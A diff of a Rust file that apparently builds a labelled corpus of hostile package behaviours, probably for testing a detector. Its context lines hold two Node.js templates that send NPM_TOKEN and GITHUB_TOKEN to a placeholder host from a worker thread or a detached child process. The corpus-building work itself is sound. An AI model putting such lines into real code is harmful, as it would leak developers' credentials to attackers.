@@ -4,7 +4,13 @@ use crate::corpus::build::{Behaviour, Carrier, Stage, TRIGGERS};
 
 const SECRETS: &[&str] = &["flow.secret.unconfigured", "flow.secret.hidden", "secret.file"];
 const WITH_RED: &[Stage] = &[Stage::Register, Stage::Construct, Stage::Message];
-const OWN: &[Carrier] = &[Carrier::Node, Carrier::Library, Carrier::Dependency, Carrier::Depth3, Carrier::Bundled];
+const OWN: &[Carrier] = &[
+    Carrier::Node,
+    Carrier::Library,
+    Carrier::Dependency,
+    Carrier::Depth3,
+    Carrier::Bundled,
+];
 
 pub(super) const LIST: &[Behaviour] = &[
     Behaviour {
@@ -44,7 +50,7 @@ pub(super) const LIST: &[Behaviour] = &[
     Behaviour {
         id: "B04",
         title: "a thread or a second process does it",
-        right: &["flow.secret.unconfigured", "flow.secret.hidden", "proc.downloads", "proc.unasked", "worker.started", "code.remote"],
+        right: &["flow.secret.unconfigured", "flow.secret.hidden", "proc.downloads", "proc.unasked", "code.elsewhere", "code.remote"],
         codes: &[
             "const { Worker: $w } = require(<<worker_threads>>); new $w(\"require('https').get('https://{{host}}/?' + encodeURIComponent(process.env.NPM_TOKEN)).on('error', () => {})\", { eval: true });",
             "require(<<child_process>>).spawn(process.execPath, [<<-e>>, <<fetch('https://{{host}}/?' + process.env.GITHUB_TOKEN)>>], { env: process.env, detached: true }).unref();",
